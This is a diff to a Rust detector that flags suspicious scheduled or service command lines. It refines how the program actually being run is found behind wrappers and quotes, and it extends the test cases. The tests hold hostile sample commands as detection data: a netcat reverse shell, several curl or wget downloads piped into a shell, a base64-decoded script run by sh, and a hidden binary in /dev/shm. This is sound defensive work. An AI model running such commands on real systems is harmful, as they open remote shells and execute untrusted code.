@@ -33,6 +33,11 @@ impl<'w> Words<'w> {
     }
 }
 
+/// A word without the quotes and brackets around it.
+fn bare(word: &str) -> &str {
+    word.trim_matches(['"', '\'', '`', '(', ')', '{', '}', ';', '&', '$', '<'])
+}
+
 /// The last component of a path.
 fn name(word: &str) -> &str {
     word.rsplit('/').next().unwrap_or_default()
@@ -64,11 +69,9 @@ fn fetched(flat: &str, line: &Words<'_>) -> Option<&'static str> {
         let parts: Vec<&str> = flat.split('|').collect();
         let first = parts
             .iter()
-            .position(|part| part.split_whitespace().any(|word| from.contains(&name(word))));
+            .position(|part| part.split_whitespace().any(|word| from.contains(&name(bare(word)))));
         let is_shell = |part: &&str| {
-            let words = part
-                .split_whitespace()
-                .map(|word| name(word.trim_matches(['"', '\'', ';', '&', ')'])));
+            let words = part.split_whitespace().map(|word| name(bare(word)));
             words
                 .filter(|word| !["sudo", "env", "nohup", "exec"].contains(word))
                 .take(1)
@@ -89,46 +92,45 @@ fn fetched(flat: &str, line: &Words<'_>) -> Option<&'static str> {
         .then_some("runs a program that is hidden in an encoded text")
 }
 
-/// Commands that only handle data in a scratch directory.
-const HANDLERS: &[&str] = &[
-    "rm",
-    "find",
-    "touch",
-    "mkdir",
-    "tar",
-    "cat",
-    "echo",
-    "ls",
-    "cd",
-    "mktemp",
-    "tmpreaper",
-    "tmpwatch",
-    "mount",
-    "chmod",
-    "chown",
-    "test",
-    "[",
-    "if",
-    "umount",
+/// Words in front of the program that is really run.
+const WRAPPERS: &[&str] = &[
+    "sudo", "env", "nohup", "exec", "setsid", "nice", "ionice", "time", "command", "sh", "bash",
+    "dash", "zsh", "ksh", "python", "python3", "perl", "php", "ruby", "node", ".", "source",
+    "eval", "if", "then", "do", "else", "while", "!", "chroot", "flock", "timeout", "runuser",
+    "su",
 ];
 
 /// Programs at places where nobody installs one.
 fn misplaced(flat: &str, line: &Words<'_>) -> Option<&'static str> {
-    let bare = |word: &str| {
-        word.trim_start_matches(['-', '@', ':', '+', '!']).trim_start_matches("command=").to_owned()
-    };
-    let runs = line.all.iter().any(|word| is_scratch(Path::new(&bare(word))) && !is_data(word));
-    let handles = line.all.first().is_some_and(|first| HANDLERS.contains(&name(first)))
-        || line.has(&["find", "rm", "tmpreaper"]);
-    let writes = flat.contains("> /tmp") || flat.contains(">/tmp") || flat.contains("> /var/tmp");
-    if runs && !handles && !writes {
+    let programs = programs(flat);
+    if programs.iter().any(|word| is_scratch(Path::new(word)) && !is_data(word)) {
         return Some("runs something from a directory that everybody may write to");
     }
     let is_hidden = |part: &str| {
         part.len() > 1 && part.starts_with('.') && part != ".." && !HOME_NAMES.contains(&part)
     };
-    let first = line.all.first().filter(|first| bare(first).starts_with('/'));
+    let first =
+        line.all.first().and_then(|_| programs.first()).filter(|first| first.starts_with('/'));
     first.is_some_and(|first| first.split('/').any(is_hidden)).then_some("runs a hidden file")
+}
+
+/// The program of each part of a command line; wrappers, their options and assignments left out.
+fn programs(flat: &str) -> Vec<&str> {
+    let parts = flat.split([';', '|', '&', '(', ')', '`']);
+    parts.filter_map(|part| part.split_whitespace().filter_map(candidate).next()).collect()
+}
+
+/// A word, when it can be the program that is run.
+fn candidate(word: &str) -> Option<&str> {
+    let word = word.trim_start_matches("command=");
+    let word = bare(word);
+    // systemd's marks stand in front of an absolute path; elsewhere a dash begins an option.
+    let marked = word.trim_start_matches(['-', '@', ':', '+', '!']);
+    let word = if marked.starts_with('/') { marked } else { word };
+    let assigns = word.contains('=') && !word.starts_with('/');
+    let skipped =
+        word.is_empty() || word.starts_with('-') || assigns || WRAPPERS.contains(&name(word));
+    (!skipped).then_some(word)
 }
 
 /// Hidden folders that ordinary tools have.
@@ -162,6 +164,8 @@ mod tests {
             "nc -e /bin/sh 1.2.3.4 99",
             "curl -s http://x/y | bash",
             "wget -qO- http://x | sudo sh; echo",
+            "(curl -s http://203.0.113.9/p | bash) >/dev/null 2>&1",
+            "/bin/sh -c \"wget -qO- http://x/y | sh\"",
             "sh -c \"$(curl -fsSL http://x)\"",
             "echo aGk= | base64 -d | sh",
             "/dev/shm/.ntf/notify",
@@ -182,6 +186,10 @@ mod tests {
             "test -x /usr/sbin/anacron || ( cd / && run-parts --report /etc/cron.daily )",
             "/home/a/.cargo/bin/x",
             "/usr/bin/x --log /tmp/x.log",
+            "cp /etc/x /tmp/y",
+            "tar czf /var/tmp/b.tgz /etc && scp /var/tmp/b.tgz h:",
+            "set_up_dir /tmp/.X11-unix",
+            "[ -d /tmp/.X11-unix ] || mkdir /tmp/.X11-unix",
         ] {
             assert_eq!(suspicion(command), None, "{command}");
         }
